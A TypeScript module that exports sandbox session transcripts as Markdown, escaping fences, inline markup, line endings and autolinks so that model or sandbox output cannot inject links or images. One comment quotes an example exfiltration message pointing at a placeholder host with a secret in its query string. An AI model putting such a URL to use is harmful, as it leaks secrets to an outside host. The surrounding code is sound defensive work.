import type { JsonValue } from './json.js'
import type { Transcript, TranscriptBlock, TranscriptTurn } from './transcript.js'

// The longest run of backticks in `text`, by a loop: spreading every run into Math.max throws
// RangeError once a block prints ~150,000 of them (thirteenth outsider pass: the export failed).
function longestBacktickRun(text: string): number {
  let longest = 0
  for (const m of text.matchAll(/`+/g)) if (m[0].length > longest) longest = m[0].length
  return longest
}

// A fence longer than any backtick run inside, so model output containing ``` cannot end it early.
export function fence(content: string, lang = ''): string {
  const longest = longestBacktickRun(content)
  const ticks = '`'.repeat(Math.max(3, longest + 1))
  const body = content.endsWith('\n') ? content : `${content}\n`
  return `${ticks}${lang}\n${body}${ticks}\n`
}

// CommonMark ends a line at LF, CR or CRLF: a lone CR inside sandbox text starts a new line (a
// heading, a list) as surely as LF, so every one is folded.
const LINE_END = /\r\n|\r|\n/

function oneLine(text: string): string {
  return text.replace(/\s*(?:\r\n|\r|\n)\s*/g, ' ').trim()
}

// Sandbox text inside a line of prose is shown as text, never as Markdown: a rendered image is
// fetched by whoever views the export, so a block without network could send a secret out in its
// URL. In a code span nothing is markup; its delimiter is longer than any backtick run inside.
export function codeSpan(text: string): string {
  const line = oneLine(text)
  const longest = longestBacktickRun(line)
  const ticks = '`'.repeat(longest + 1)
  const pad = line.startsWith('`') || line.endsWith('`') ? ' ' : ''
  return `${ticks}${pad}${line}${pad}${ticks}`
}

// Prose from a sandbox (an error's one-line message, a title): every character that opens inline
// markup (images, links, raw HTML, emphasis, code) escaped, the words left readable.
export function inlineText(text: string): string {
  return escapeInline(oneLine(text))
}

// Also what GFM's extended autolinks start from (fifteenth outsider pass: a block's one-line error
// `see https://exfil.example/?d=<secret>` became a link in the export's prose, one click or a link
// unfurler from sending the secret out): the `:` of any `://`, the `.` of `www.` and every `@`
// (e-mail and `mailto:` autolinks) are escaped, which CommonMark renders as the characters alone.
const escapeInline = (line: string) =>
  line.replace(/[\\`*_[\]()<>!&~|@]|:(?=\/\/)|(?<=www)\./gi, (c) => `\\${c}`)

function renderJson(value: JsonValue): string {
  return fence(JSON.stringify(value, null, 2), 'json')
}

// Sandbox or model text of many lines as a block quote: split at every CommonMark line ending
// (LF, CR, CRLF), so no line of it starts outside the quote, and each line escaped as inlineText
// is (no image, link, raw HTML or code span). The turn's request here, and the agent part of the
// export (src/cli/agent/show.ts: the model's text and answer, a child turn's prompt).
export function quotedText(text: string): string {
  return text
    .split(LINE_END)
    .map((l) => (l === '' ? '>' : `> ${escapeInline(l)}`))
    .join('\n')
}

function renderRequest(request: JsonValue | null): string {
  if (request === null) return ''
  if (typeof request === 'string') return `${quotedText(request)}\n\n`
  return `${renderJson(request)}\n`
}

function renderTurn(turn: TranscriptTurn): string {
  return `## Turn ${turn.position} (${turn.status})\n\n${renderRequest(turn.request)}`
}

function renderBlock(b: TranscriptBlock, formatCode: (code: string) => string): string {
  const facts = [b.status === 'running' ? 'running' : b.error ? 'failed' : 'ok']
  if (b.durationMs !== null) facts.push(`${b.durationMs} ms`)
  if (b.timedOut) facts.push('timed out')
  const parts = [
    `#### Block ${b.position} (${facts.join(', ')})\n\n`,
    fence(formatCode(b.code), 'python'),
    '\n',
  ]
  if (b.stdout !== '') parts.push('Output:\n\n', fence(b.stdout, 'text'), '\n')
  if (b.stderr !== '') parts.push('Standard error:\n\n', fence(b.stderr, 'text'), '\n')
  if (b.result !== null) parts.push('Result:\n\n', renderJson(b.result), '\n')
  if (b.error) {
    const label = b.error.code ? `Error ${codeSpan(b.error.code)}` : 'Error'
    // A one-line message reads best inline; a longer one keeps its lines in a fence.
    if (LINE_END.test(b.error.message)) parts.push(`${label}:\n\n`, fence(b.error.message, 'text'), '\n')
    else parts.push(`${label}: ${inlineText(b.error.message)}\n\n`)
    if (b.error.traceback) parts.push(fence(b.error.traceback, 'text'), '\n')
  }
  if (b.attachments.length > 0) {
    parts.push('Attachments:\n\n')
    for (const a of b.attachments) {
      parts.push(
        `- ${a.name ? codeSpan(a.name) : `attachment ${a.position}`} (${inlineText(a.mediaType)}, ${a.size} bytes)\n`,
      )
    }
    parts.push('\n')
  }
  return parts.join('')
}

// People read transcripts in order of what happened: blocks by position, each turn's heading
// where its work starts, and a turn that ran no block placed before the first block that came
// after it (by time, or by belonging to a later turn).
export type MarkdownOptions = {
  // Display formatting for model-written code (ruff, issue 9). The transcript keeps the original.
  formatCode?: (code: string) => string
}

export function renderMarkdown(t: Transcript, options: MarkdownOptions = {}): string {
  const formatCode = options.formatCode ?? ((code: string) => code)
  const out: string[] = []
  out.push(`# ${t.session.title ? inlineText(t.session.title) : `Session ${t.session.id}`}\n\n`)
  out.push(`- Session: \`${t.session.id}\`\n- Created: ${t.session.createdAt}\n`)
  if (t.session.closedAt) out.push(`- Closed: ${t.session.closedAt}\n`)
  out.push(`- Blocks: ${t.blocks.length}\n\n`)

  const turns = new Map(t.turns.map((turn) => [turn.id, turn]))
  const withBlocks = new Set(t.blocks.map((b) => b.turnId))
  const idle = t.turns.filter((turn) => !withBlocks.has(turn.id)).sort((a, b) => a.position - b.position)
  const started = new Set<string>()

  let section: string | null | undefined // the turn whose blocks are being listed; undefined before any
  let iteration: string | null = null
  const emitIdleTurns = (before: TranscriptBlock | undefined): void => {
    const turnPos = before?.turnId ? (turns.get(before.turnId)?.position ?? 0) : 0
    while (idle.length > 0) {
      const turn = idle[0]!
      if (before && !(turn.createdAt < before.createdAt || turn.position < turnPos)) break
      idle.shift()
      out.push(renderTurn(turn))
      section = turn.id
    }
  }

  for (const b of [...t.blocks].sort((x, y) => x.position - y.position)) {
    emitIdleTurns(b)
    const turn = b.turnId === null ? undefined : turns.get(b.turnId)
    if (b.turnId !== section) {
      if (turn) {
        out.push(started.has(turn.id) ? `## Turn ${turn.position} (continued)\n\n` : renderTurn(turn))
        started.add(turn.id)
      } else if (section !== undefined) {
        out.push('## Outside a turn\n\n')
      }
      section = b.turnId
      iteration = null
    }
    if (b.iterationId !== iteration && turn) {
      const it = turn.iterations.find((i) => i.id === b.iterationId)
      if (it) out.push(`### Iteration ${it.position}\n\n`)
      iteration = b.iterationId
    }
    out.push(renderBlock(b, formatCode))
  }
  emitIdleTurns(undefined)
  return `${out.join('').trimEnd()}\n`
}
